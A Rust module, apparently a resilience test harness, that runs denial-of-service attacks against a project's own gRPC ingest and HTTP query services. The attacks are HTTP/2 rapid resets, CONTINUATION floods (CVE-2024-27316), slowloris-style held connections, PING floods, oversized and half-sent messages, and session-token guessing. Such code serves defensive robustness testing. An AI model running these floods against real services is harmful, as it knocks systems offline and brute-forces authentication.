//! The attacks. Each goes on until it is dropped.

use std::net::SocketAddr;
use std::sync::Arc;

use anyhow::{Result, bail};
use futures::future::{BoxFuture, FutureExt as _, join_all};
use h2::client::SendRequest;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tonic::codegen::Bytes;
use tonic::codegen::http::{Request, Uri};

/// The services that are attacked, and a token for attacks that have one.
#[derive(Debug, Clone, Copy)]
pub(super) struct Target<'a> {
    pub(super) ingest: SocketAddr,
    pub(super) query: SocketAddr,
    /// Of an agent that means harm.
    pub(super) agent: &'a str,
}

/// An attack.
pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) run: for<'a> fn(Target<'a>) -> BoxFuture<'a, Result<()>>,
}

/// All attacks.
pub(super) const ALL: &[Attack] = &[
    Attack { name: "half messages without a token", run: |to| half_messages(to.ingest, REPORT, None).boxed() },
    Attack {
        name: "half messages with a wrong token",
        run: |to| half_messages(to.ingest, REPORT, Some("nobody's")).boxed(),
    },
    Attack { name: "half messages to health", run: |to| half_messages(to.ingest, HEALTH, None).boxed() },
    Attack { name: "half messages to reflection", run: |to| half_messages(to.ingest, REFLECTION, None).boxed() },
    Attack { name: "half messages of an agent", run: |to| half_messages(to.ingest, REPORT, Some(to.agent)).boxed() },
    Attack { name: "large messages without a token", run: |to| whole_messages(to.ingest).boxed() },
    Attack { name: "calls that are taken back", run: |to| rapid_resets(to.ingest).boxed() },
    Attack { name: "silent connections to ingest", run: |to| silent(to.ingest).boxed() },
    Attack { name: "pings to ingest", run: |to| pings(to.ingest).boxed() },
    Attack { name: "heads without an end to ingest", run: |to| endless_head(to.ingest).boxed() },
    Attack { name: "half forms", run: |to| half_forms(to.query).boxed() },
    Attack { name: "large forms", run: |to| large_forms(to.query).boxed() },
    Attack { name: "answers that nobody reads", run: |to| unread(to.query).boxed() },
    Attack { name: "silent connections to query", run: |to| silent(to.query).boxed() },
    Attack { name: "requests that are taken back", run: |to| rapid_resets(to.query).boxed() },
    Attack { name: "heads without an end to query", run: |to| endless_head(to.query).boxed() },
    Attack { name: "guessed tokens", run: |to| guesses(to.query).boxed() },
];

const REPORT: &str = "/connlog.v1.ConnectionLog/ReportEvents";
const HEALTH: &str = "/grpc.health.v1.Health/Check";
const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

/// Connections of an attack over HTTP/2, and streams of each.
const CONNECTIONS: usize = 60;
const STREAMS: usize = 100;
/// Connections that say nothing.
const SILENT: usize = 4_000;
/// Length of a message that is announced, and what comes of it.
const ANNOUNCED: u32 = 4 << 20;
const SENT: usize = 2 << 20;

/// A connection that speaks HTTP/2. It ends with what is returned.
async fn connection(to: SocketAddr) -> Result<(SendRequest<Bytes>, tokio::task::JoinHandle<()>)> {
    let socket = TcpStream::connect(to).await?;
    let (sender, connection) = h2::client::handshake(socket).await?;
    // The server ends it: that is what it is for.
    let driver = tokio::spawn(async move { drop(connection.await) });
    Ok((sender, driver))
}

/// Runs `attack` on many connections at once, and begins anew with each that the server ends.
async fn on_many<F, A>(to: SocketAddr, attack: A) -> Result<()>
where
    A: Fn(SendRequest<Bytes>) -> F,
    F: Future<Output = Result<()>>,
{
    let again = async || {
        loop {
            if let Ok((sender, driver)) = connection(to).await {
                let _guard = Driver(driver);
                let _ended = attack(sender).await;
            }
            tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        }
    };
    join_all((0..CONNECTIONS).map(|_| again())).await;
    bail!("an attack ends by itself")
}

/// Ends a connection.
struct Driver(tokio::task::JoinHandle<()>);

impl Drop for Driver {
    fn drop(&mut self) {
        self.0.abort();
    }
}

fn call(to: SocketAddr, path: &str, token: Option<&str>) -> Request<()> {
    let uri: Uri = format!("http://{to}{path}").parse().expect("the path of a method is a URI");
    let mut request = Request::post(uri).header("content-type", "application/grpc").header("te", "trailers");
    if let Some(token) = token {
        request = request.header("authorization", format!("Bearer {token}"));
    }
    request.body(()).expect("the head of a call is right")
}

/// Sends as much of `bytes` as the server takes, and then holds the stream.
async fn send_and_hold(mut stream: h2::SendStream<Bytes>, bytes: Bytes) -> Result<()> {
    let mut rest = bytes;
    while !rest.is_empty() {
        stream.reserve_capacity(rest.len());
        let Some(capacity) = std::future::poll_fn(|context| stream.poll_capacity(context)).await else {
            bail!("reset")
        };
        stream.send_data(rest.split_to(capacity?.min(rest.len())), false)?;
    }
    std::future::pending().await
}

async fn half_messages(to: SocketAddr, path: &'static str, token: Option<&str>) -> Result<()> {
    let mut message = vec![0];
    message.extend(ANNOUNCED.to_be_bytes());
    message.resize(SENT, 7);
    let message = Bytes::from(message);
    on_many(to, |sender| {
        let (message, token) = (message.clone(), token.map(str::to_owned));
        async move {
            let mut held = Vec::new();
            for _ in 0..STREAMS {
                let mut sender = sender.clone().ready().await?;
                let (answer, stream) = sender.send_request(call(to, path, token.as_deref()), false)?;
                held.push(send_and_hold(stream, message.clone()).map(move |sent| (sent, answer)));
            }
            join_all(held).await;
            Ok(())
        }
    })
    .await
}

async fn whole_messages(to: SocketAddr) -> Result<()> {
    let mut message = vec![0];
    message.extend(ANNOUNCED.to_be_bytes());
    message.resize(ANNOUNCED as usize + 5, 7);
    let message = Bytes::from(message);
    on_many(to, |sender| {
        let message = message.clone();
        async move {
            loop {
                let mut sender = sender.clone().ready().await?;
                let (answer, mut stream) = sender.send_request(call(to, REPORT, None), false)?;
                stream.send_data(message.clone(), true)?;
                answer.await?;
            }
        }
    })
    .await
}

async fn rapid_resets(to: SocketAddr) -> Result<()> {
    on_many(to, |sender| async move {
        loop {
            let mut sender = sender.clone().ready().await?;
            let (_, mut stream) = sender.send_request(call(to, REPORT, None), false)?;
            stream.send_reset(h2::Reason::CANCEL);
            tokio::task::yield_now().await;
        }
    })
    .await
}

async fn silent(to: SocketAddr) -> Result<()> {
    let mut held = Vec::new();
    loop {
        if held.len() >= SILENT {
            held.clear();
        }
        // Some begin to speak HTTP/2, some HTTP/1, some nothing.
        let mut socket = TcpStream::connect(to).await?;
        match held.len() % 3 {
            0 => {}
            1 => socket.write_all(PREFACE).await?,
            _ => socket.write_all(b"GET / HTTP/1.1\r\nHost: a\r\nX-").await?,
        }
        held.push(socket);
        if held.len().is_multiple_of(50) {
            tokio::time::sleep(std::time::Duration::from_millis(10)).await;
        }
    }
}

/// The first bytes of an HTTP/2 client: the preface and empty settings (RFC 9113, section 3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// Writes the same bytes again and again after the preface, and reads nothing.
async fn flood(to: SocketAddr, first: Vec<u8>, again: Vec<u8>) -> Result<()> {
    let (first, again) = (Arc::new([PREFACE, &first].concat()), Arc::new(again));
    join_all((0..CONNECTIONS).map(|_| {
        let (first, again) = (Arc::clone(&first), Arc::clone(&again));
        async move {
            loop {
                let written: Result<()> = async {
                    let mut socket = TcpStream::connect(to).await?;
                    socket.write_all(&first).await?;
                    loop {
                        socket.write_all(&again).await?;
                        tokio::task::yield_now().await;
                    }
                }
                .await;
                drop(written);
                tokio::time::sleep(std::time::Duration::from_millis(20)).await;
            }
        }
    }))
    .await;
    Ok(())
}

/// Frames of type PING, whose answers are not read.
async fn pings(to: SocketAddr) -> Result<()> {
    let ping = b"\0\0\x08\x06\0\0\0\0\0abcdefgh".repeat(500);
    flood(to, Vec::new(), ping).await
}

/// HEADERS without `END_HEADERS`, and CONTINUATION for ever: CVE-2024-27316 and its kind.
async fn endless_head(to: SocketAddr) -> Result<()> {
    // A literal header field without indexing: name `x`, and 8,000 bytes of value.
    let mut field = vec![0x00, 0x01, b'x', 0x7f, 0xc1, 0x3d];
    field.resize(field.len() + 8_000, b'a');
    let frame = |kind: u8| {
        let length = u32::try_from(field.len()).unwrap_or_default().to_be_bytes();
        [&length[1..], &[kind, 0, 0, 0, 0, 1], &field].concat()
    };
    flood(to, frame(1), frame(9)).await
}

fn form(to: SocketAddr, path: &str) -> Request<()> {
    let uri: Uri = format!("http://{to}{path}").parse().expect("the path of a page is a URI");
    let form = "application/x-www-form-urlencoded";
    Request::post(uri).header("content-type", form).body(()).expect("the head of a request is right")
}

async fn half_forms(to: SocketAddr) -> Result<()> {
    let half = Bytes::from([b"token=".to_vec(), vec![b'a'; 12_000]].concat());
    on_many(to, |sender| {
        let half = half.clone();
        async move {
            let mut held = Vec::new();
            for number in 0..STREAMS {
                let mut sender = sender.clone().ready().await?;
                let path = if number % 2 == 0 { "/signin" } else { "/preferences" };
                let (answer, stream) = sender.send_request(form(to, path), false)?;
                held.push(send_and_hold(stream, half.clone()).map(move |sent| (sent, answer)));
            }
            join_all(held).await;
            Ok(())
        }
    })
    .await
}

async fn large_forms(to: SocketAddr) -> Result<()> {
    let large = Bytes::from([b"token=".to_vec(), vec![b'a'; SENT]].concat());
    on_many(to, |sender| {
        let large = large.clone();
        async move {
            loop {
                let mut sender = sender.clone().ready().await?;
                let (answer, mut stream) = sender.send_request(form(to, "/signin"), false)?;
                stream.send_data(large.clone(), true)?;
                answer.await?;
            }
        }
    })
    .await
}

/// Pipelined requests whose answers are never read.
async fn unread(to: SocketAddr) -> Result<()> {
    let requests = Arc::new("GET /signin HTTP/1.1\r\nHost: a\r\n\r\n".repeat(200));
    join_all((0..CONNECTIONS * 5).map(|_| {
        let requests = Arc::clone(&requests);
        async move {
            loop {
                let written: Result<()> = async {
                    let mut socket = TcpStream::connect(to).await?;
                    loop {
                        socket.write_all(requests.as_bytes()).await?;
                    }
                }
                .await;
                drop(written);
                tokio::time::sleep(std::time::Duration::from_millis(20)).await;
            }
        }
    }))
    .await;
    Ok(())
}

/// Tokens that are nobody's.
async fn guesses(to: SocketAddr) -> Result<()> {
    join_all((0..CONNECTIONS).map(|number| async move {
        let mut guess = 0_u64;
        loop {
            guess += 1;
            let asked: Result<()> = async {
                let mut socket = TcpStream::connect(to).await?;
                let head = format!(
                    "GET /api/v2/connectionlog HTTP/1.1\r\nHost: a\r\nConnection: close\r\nCoder-Session-Token: {number}-{guess}\r\n\r\n"
                );
                socket.write_all(head.as_bytes()).await?;
                socket.read_to_end(&mut Vec::new()).await?;
                Ok(())
            }
            .await;
            drop(asked);
        }
    }))
    .await;
    Ok(())
}
